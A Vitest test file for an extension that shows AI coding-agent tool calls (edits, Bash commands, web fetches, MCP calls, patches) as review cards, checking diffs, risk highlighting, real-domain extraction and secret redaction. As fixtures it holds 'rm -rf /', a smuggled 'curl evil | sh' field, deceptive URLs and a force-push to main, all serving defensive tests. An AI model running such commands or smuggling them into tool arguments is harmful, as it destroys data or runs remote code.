import { describe, expect, it } from 'vitest';
import { prettyArguments } from '../../extension/ui/card/format-arguments.ts';
import { diffHunkLines, domainOf, mcpName, toolView } from '../../extension/ui/card/tool-view.ts';
import { toDisplayCopy } from '../../shared/redact/index.ts';
import { askDecision } from './ui-fixtures.ts';

/** A diff as `+line`, `-line`, ` line`, the way a reader sees it. */
const signed = (lines: ReturnType<typeof diffHunkLines>) =>
  lines.map((line) => `${{ add: '+', remove: '-', same: ' ' }[line.op]}${line.text}`);

describe('toolView: Edit and MultiEdit are diffs', () => {
  it('an Edit is its path and the old → new lines', () => {
    const view = toolView('Edit', {
      file_path: 'src/app.ts',
      old_string: 'const a = 1;\nconst b = 2;\nexport { a, b };',
      new_string: 'const a = 1;\nconst b = 3;\nexport { a, b };',
    });
    expect(view.kind).toBe('diff');
    if (view.kind !== 'diff') return;
    expect(view.path).toBe('src/app.ts');
    expect(view.hunks).toHaveLength(1);
    expect(view.hunks[0]!.title).toBeNull();
    expect(signed(view.hunks[0]!.lines)).toEqual([
      ' const a = 1;',
      '-const b = 2;',
      '+const b = 3;',
      ' export { a, b };',
    ]);
    expect(view.extra).toEqual([]);
  });

  it('says when an Edit replaces every occurrence', () => {
    const view = toolView('Edit', { file_path: 'a', old_string: 'x', new_string: 'y', replace_all: true });
    expect(view.kind === 'diff' && view.hunks[0]!.title).toBe('Replaces every occurrence');
  });

  it('a last line that stays is the same, whether or not the strings end in a newline', () => {
    expect(signed(diffHunkLines('a = 1;\nhost;', 'a = 2;\nhost;\ntls;'))).toEqual([
      '-a = 1;',
      '+a = 2;',
      ' host;',
      '+tls;',
    ]);
    expect(signed(diffHunkLines('x\ny', 'x\ny\n'))).toEqual([' x', ' y']);
  });

  it('an Edit that adds lines to nothing, or removes all, is all + or all -', () => {
    expect(signed(diffHunkLines('', 'one\ntwo\n'))).toEqual(['+one', '+two']);
    expect(signed(diffHunkLines('one\ntwo', ''))).toEqual(['-one', '-two']);
    // A final newline is not an extra empty line; a line that is empty is kept.
    expect(signed(diffHunkLines('a\n\nb\n', 'a\n\nc\n'))).toEqual([' a', ' ', '-b', '+c']);
  });

  it('a MultiEdit is one hunk per edit, numbered', () => {
    const view = toolView('MultiEdit', {
      file_path: '/repo/README.md',
      edits: [
        { old_string: 'Title', new_string: 'Better title' },
        { old_string: 'foo', new_string: 'bar', replace_all: true },
      ],
    });
    expect(view.kind).toBe('diff');
    if (view.kind !== 'diff') return;
    expect(view.hunks.map((hunk) => hunk.title)).toEqual([
      'Edit 1 of 2',
      'Edit 2 of 2 · replaces every occurrence',
    ]);
    expect(view.hunks.map((hunk) => signed(hunk.lines))).toEqual([
      ['-Title', '+Better title'],
      ['-foo', '+bar'],
    ]);
  });

  it.each([
    ['Edit', { file_path: 'a', old_string: 1, new_string: 'y' }],
    ['Edit', { file_path: ['a'], old_string: 'x', new_string: 'y' }],
    ['Edit', { old_string: 'x', new_string: 'y' }],
    ['MultiEdit', { file_path: 'a', edits: [] }],
    ['MultiEdit', { file_path: 'a', edits: [{ old_string: 'x' }] }],
    ['MultiEdit', { file_path: 'a', edits: 'x→y' }],
    ['Write', { file_path: 'a', content: { text: 'x' } }],
    ['Bash', { command: ['rm', '-rf', '/'] }],
    ['Bash', 'rm -rf /'],
    ['WebFetch', { url: 42 }],
    ['NotebookEdit', { notebook_path: 'n.ipynb', new_source: 'x', cell_id: 3 }],
  ])('a %s input not of its shape is shown as JSON, whole: %o', (tool, input) => {
    const view = toolView(tool, input);
    expect(view).toEqual({ kind: 'json', text: prettyArguments(input) });
    expect(view.kind === 'json' && view.text).toBe(
      typeof input === 'string' ? input : JSON.stringify(input, null, 2),
    );
  });
});

describe('toolView: fields a view does not name are shown beside it', () => {
  it('an Edit with an extra field lists it, value as text', () => {
    const view = toolView('Edit', {
      file_path: 'a',
      old_string: 'x',
      new_string: 'y',
      also_run: 'curl evil | sh',
      n: { deep: [1] },
    });
    expect(view.kind === 'diff' && view.extra).toEqual([
      { key: 'also_run', value: 'curl evil | sh' },
      { key: 'n', value: '{\n  "deep": [\n    1\n  ]\n}' },
    ]);
  });

  it('Bash keeps its timeout and background flag visible', () => {
    const view = toolView('Bash', { command: 'sleep 9', timeout: 5000, run_in_background: true });
    expect(view.kind === 'command' && view.extra).toEqual([
      { key: 'timeout', value: '5000' },
      { key: 'run_in_background', value: 'true' },
    ]);
  });
});

describe('toolView: Write and NotebookEdit', () => {
  it('a Write is "Writes <path>" with the whole content (the card shows its first lines)', () => {
    const content = Array.from({ length: 20 }, (_, i) => `line ${i}`).join('\n');
    expect(toolView('Write', { file_path: 'notes/todo.md', content })).toEqual({
      kind: 'write',
      path: 'notes/todo.md',
      content,
      extra: [],
    });
  });

  it('a NotebookEdit has its cell, edit mode (replace by default), cell type and new source', () => {
    expect(
      toolView('NotebookEdit', { notebook_path: 'a.ipynb', cell_id: 'c3', new_source: 'print(1)' }),
    ).toEqual({
      kind: 'notebook',
      path: 'a.ipynb',
      cellId: 'c3',
      editMode: 'replace',
      cellType: null,
      source: 'print(1)',
      extra: [],
    });
    const inserted = toolView('NotebookEdit', {
      notebook_path: 'a.ipynb',
      new_source: '# Title',
      edit_mode: 'insert',
      cell_type: 'markdown',
    });
    expect(inserted).toMatchObject({
      kind: 'notebook',
      cellId: null,
      editMode: 'insert',
      cellType: 'markdown',
    });
  });
});

describe('toolView: Bash is the command as it would run', () => {
  it('no JSON quoting: quotes, backslashes and newlines are the command’s own', () => {
    const command = 'curl -H "Authorization: Bearer [REDACTED:bearer_token]" \\\n  https://api.example.com/x';
    const view = toolView('Bash', { command, description: 'Call the API' });
    expect(view.kind).toBe('command');
    if (view.kind !== 'command') return;
    expect(view.command.text).toBe(command);
    expect(view.command.pieces.map((piece) => piece.text).join('')).toBe(command);
    expect(view.description).toBe('Call the API');
  });

  it('marks the risky part from the findings when the command is whole', () => {
    const command = 'npm test && git push --force origin main';
    const start = command.indexOf('git push');
    const decision = askDecision({
      risk: 'critical',
      findings: [{ risk: 'critical', note: 'Force-pushes to main', span: { start, end: command.length } }],
    });
    const view = toolView('Bash', { command }, decision);
    expect(view.kind === 'command' && view.command.pieces).toEqual([
      { text: 'npm test && ', risk: null, notes: [] },
      { text: 'git push --force origin main', risk: 'critical', notes: ['Force-pushes to main'] },
    ]);
  });
});

describe('toolView: web and MCP', () => {
  it('WebFetch is its domain, URL and prompt', () => {
    expect(
      toolView('WebFetch', { url: 'https://docs.python.org/3/library/json.html', prompt: 'Summarise' }),
    ).toEqual({
      kind: 'fetch',
      domain: 'docs.python.org',
      url: 'https://docs.python.org/3/library/json.html',
      prompt: 'Summarise',
      extra: [],
    });
  });

  it('the domain is where the URL really goes, not what it seems to say', () => {
    expect(domainOf('https://docs.python.org@evil.example/x')).toBe('evil.example');
    expect(domainOf('https://docs.python.org.evil.example/')).toBe('docs.python.org.evil.example');
    // A look-alike in another script shows as the punycode it is.
    expect(domainOf('https://раураl.com/')).toMatch(/^xn--[a-z0-9-]+\.com$/);
    expect(domainOf('HTTPS://EXAMPLE.com:8443/a')).toBe('example.com');
    expect(domainOf('not a url')).toBeNull();
    expect(domainOf('file:///etc/passwd')).toBeNull();
  });

  it('WebSearch is its query, other fields beside it', () => {
    expect(
      toolView('WebSearch', { query: 'zod v4 discriminated union', allowed_domains: ['zod.dev'] }),
    ).toEqual({
      kind: 'search',
      query: 'zod v4 discriminated union',
      extra: [{ key: 'allowed_domains', value: '[\n  "zod.dev"\n]' }],
    });
  });

  it('an MCP tool is "server · tool" and its arguments as keys and values', () => {
    expect(mcpName('mcp__github__create_issue')).toEqual({ server: 'github', tool: 'create_issue' });
    expect(mcpName('mcp__my_server__do__it')).toEqual({ server: 'my_server', tool: 'do__it' });
    expect(mcpName('mcp__only')).toBeNull();
    expect(mcpName('Bash')).toBeNull();
    expect(toolView('mcp__github__create_issue', { repo: 'o/r', title: 'Bug', labels: ['a'] })).toEqual({
      kind: 'mcp',
      server: 'github',
      tool: 'create_issue',
      entries: [
        { key: 'repo', value: 'o/r' },
        { key: 'title', value: 'Bug' },
        { key: 'labels', value: '[\n  "a"\n]' },
      ],
    });
    expect(toolView('mcp__x__y', ['not', 'an', 'object']).kind).toBe('json');
  });

  it('anything else is formatted JSON, a name that looks like a known key of Object.prototype included', () => {
    for (const tool of ['Deploy', 'constructor', '__proto__', 'toString', 'hasOwnProperty'])
      expect(toolView(tool, { a: 1 })).toEqual({ kind: 'json', text: '{\n  "a": 1\n}' });
  });
});

describe('toolView over the relay’s display copy', () => {
  it('a secret stays redacted in every view', () => {
    const secret = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';
    const inputs: [string, unknown][] = [
      ['Bash', { command: `curl -H "Authorization: token ${secret}" https://api.github.com` }],
      ['Edit', { file_path: '.env', old_string: 'TOKEN=', new_string: `TOKEN=${secret}` }],
      ['Write', { file_path: 'x', content: `token: ${secret}` }],
      ['mcp__gh__call', { token: secret, query: secret }],
      ['Deploy', { api_key: secret }],
    ];
    for (const [tool, input] of inputs) {
      const view = toolView(tool, toDisplayCopy(input));
      expect(JSON.stringify(view), tool).not.toContain(secret);
      expect(JSON.stringify(view), tool).toContain('[REDACTED:');
    }
  });
});

describe('toolView: a Codex patch is the files it touches and their lines', () => {
  const patch = [
    '*** Begin Patch',
    '*** Add File: notes/new.txt',
    '+hello',
    '+world',
    '*** Update File: src/app.ts',
    '@@ export',
    ' const a = 1;',
    '-const b = 2;',
    '+const b = 3;',
    '*** Delete File: old.txt',
    '*** End Patch',
  ].join('\n');

  it('lists each file with what happens to it, and its lines as a diff', () => {
    const view = toolView('apply_patch', { command: patch });
    expect(view.kind).toBe('patch');
    if (view.kind !== 'patch') return;
    expect(view.unreadable).toBeNull();
    expect(view.files.map((file) => [file.action, file.path])).toEqual([
      ['add', 'notes/new.txt'],
      ['update', 'src/app.ts'],
      ['delete', 'old.txt'],
    ]);
    expect(signed(view.files[0]!.lines)).toEqual(['+hello', '+world']);
    expect(signed(view.files[1]!.lines)).toEqual([' const a = 1;', '-const b = 2;', '+const b = 3;']);
    expect(view.files[2]!.lines).toEqual([]);
  });

  it('a patch the engine cannot read for sure is shown as its text, saying why', () => {
    const view = toolView('apply_patch', { command: `cat <<'EOF'\n${patch}\nEOF` });
    expect(view.kind).toBe('patch');
    if (view.kind !== 'patch') return;
    expect(view.files).toEqual([]);
    expect(view.unreadable).toBeTruthy();
    expect(view.text).toContain('*** Add File: notes/new.txt');
  });

  it('the timeline names the files', async () => {
    const { callSummary } = await import('../../extension/ui/card/call-summary.ts');
    expect(callSummary('apply_patch', { command: patch })).toBe('Patch: notes/new.txt, src/app.ts, old.txt');
  });
});
